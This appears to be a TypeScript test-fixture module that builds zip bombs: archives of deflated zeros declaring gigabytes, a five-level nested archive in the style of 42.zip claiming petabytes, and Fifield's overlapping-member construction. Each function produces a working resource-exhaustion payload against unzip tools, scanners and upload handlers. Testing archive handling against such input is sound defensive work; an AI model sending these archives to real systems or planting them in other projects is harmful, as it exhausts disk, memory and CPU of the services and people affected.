// Archives that unpack to far more than any disk holds, made in a moment: what is deflated is one piece of zeros, repeated.

import { constants, deflateRawSync } from 'node:zlib';

const PIECE = 1024 * 1024;

/** So many MiB of zeros, deflated at one to a thousand. */
export function deflatedZeros(mebibytes: number): Buffer {
  const piece = deflateRawSync(Buffer.alloc(PIECE), { level: 9, finishFlush: constants.Z_FULL_FLUSH });
  const end = deflateRawSync(Buffer.alloc(0));
  return Buffer.concat([...Array.from({ length: mebibytes }, () => piece), end]);
}

export interface PackedMember {
  readonly name: string;
  readonly packed: Uint8Array;
  readonly method: 0 | 8;
  /** bytes when unpacked, as declared */
  readonly size: number;
  readonly checksum: number;
}

const NOT_HERE = 0xffffffff;

function fieldsOf({ name, packed, method, size, checksum }: PackedMember): { fields: Buffer; extra: Buffer } {
  const isLong = size >= NOT_HERE;
  const extra = Buffer.alloc(isLong ? 12 : 0);
  if (isLong) {
    extra.writeUInt16LE(1, 0);
    extra.writeUInt16LE(8, 2);
    extra.writeBigUInt64LE(BigInt(size), 4);
  }
  const fields = Buffer.alloc(26);
  fields.writeUInt16LE(45, 0);
  fields.writeUInt16LE(method, 4);
  fields.writeUInt32LE(0x5a210000, 6);
  fields.writeUInt32LE(checksum, 10);
  fields.writeUInt32LE(packed.length, 14);
  fields.writeUInt32LE(isLong ? NOT_HERE : size, 18);
  fields.writeUInt16LE(name.length, 22);
  fields.writeUInt16LE(extra.length, 24);
  return { fields, extra };
}

const localHeader = (member: PackedMember) => {
  const { fields, extra } = fieldsOf(member);
  return Buffer.concat([Buffer.from('PK\x03\x04'), fields, Buffer.from(member.name), extra]);
};

function centralHeader(member: PackedMember, offset: number): Buffer {
  const { fields, extra } = fieldsOf(member);
  const rest = Buffer.alloc(14);
  rest.writeUInt32LE(offset, 10);
  return Buffer.concat([Buffer.from('PK\x01\x02\x2d\0'), fields, rest, Buffer.from(member.name), extra]);
}

function withDirectory(body: readonly Uint8Array[], central: readonly Buffer[]): Buffer {
  const offset = body.reduce((sum, { length }) => sum + length, 0);
  const directory = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.write('PK\x05\x06', 'latin1');
  end.writeUInt16LE(central.length, 8);
  end.writeUInt16LE(central.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...body, directory, end]);
}

export function zipOf(members: readonly PackedMember[]): Buffer {
  const body: Uint8Array[] = [];
  let at = 0;
  const central = members.map((member) => {
    const header = localHeader(member);
    const entry = centralHeader(member, at);
    body.push(header, member.packed);
    at += header.length + member.packed.length;
    return entry;
  });
  return withDirectory(body, central);
}

/** One member, declared and deflated, of 10 GiB. */
export function tenGigabytes(): Buffer {
  return zipOf([{ name: 'zeros', packed: deflatedZeros(10 * 1024), method: 8, size: 10 * 1024 ** 3, checksum: 0 }]);
}

/**
 * Archives of 16 archives, on five levels, with members of 4 GiB at the bottom: 4.5 PB, as 42.zip has it. `isVaried`: no
 * two archives are the same, so that reading each of them once would not do.
 */
export function nestedArchives(isVaried: boolean): Buffer {
  const zeros = deflatedZeros(4095);
  let count = 0;
  let level = (index: number) => {
    const name = isVaried ? `${index}-${count++}.dll` : '0.dll';
    return zipOf([{ name, packed: zeros, method: 8, size: 4095 * PIECE, checksum: 0 }]);
  };
  for (let depth = 0; depth < 5; depth++) {
    const below = level;
    const innermost = depth === 0 && isVaried ? undefined : below(0);
    level = (index) => {
      const members = Array.from({ length: 16 }, (_, at) => {
        const inner = innermost ?? below(at);
        const packed = deflateRawSync(inner, { level: 9 });
        return { name: `lib ${index} ${at}.zip`, packed, method: 8 as const, size: inner.length, checksum: 0 };
      });
      return zipOf(members);
    };
  }
  return level(0);
}

/**
 * David Fifield's "A better zip bomb" (2019): the local headers stand one behind the other before one kernel, and each
 * member begins with stored blocks that quote the headers behind its own, so that all of them unpack the kernel.
 */
export function overlappingMembers(count: number, kernelMebibytes: number): Buffer {
  const kernel = deflatedZeros(kernelMebibytes);
  const files: { member: PackedMember; header: Buffer; quote: Buffer }[] = [];
  let packedLength = kernel.length;
  let size = kernelMebibytes * PIECE;
  for (let index = count - 1; index >= 0; index--) {
    const next = files[0];
    let quote = Buffer.alloc(0);
    if (next !== undefined) {
      quote = Buffer.alloc(5);
      quote.writeUInt16LE(next.header.length, 1);
      quote.writeUInt16LE(~next.header.length & 0xffff, 3);
      packedLength += 5 + next.header.length;
      size += next.header.length;
    }
    const packed = { length: packedLength } as Uint8Array;
    const member: PackedMember = { name: `${index}`.padStart(5, '0'), packed, method: 8, size, checksum: 0 };
    files.unshift({ member, header: localHeader(member), quote });
  }
  const body: Uint8Array[] = [];
  let at = 0;
  const central = files.map(({ member, header, quote }) => {
    const entry = centralHeader(member, at);
    body.push(header, quote);
    at += header.length + quote.length;
    return entry;
  });
  return withDirectory([...body, kernel], central);
}
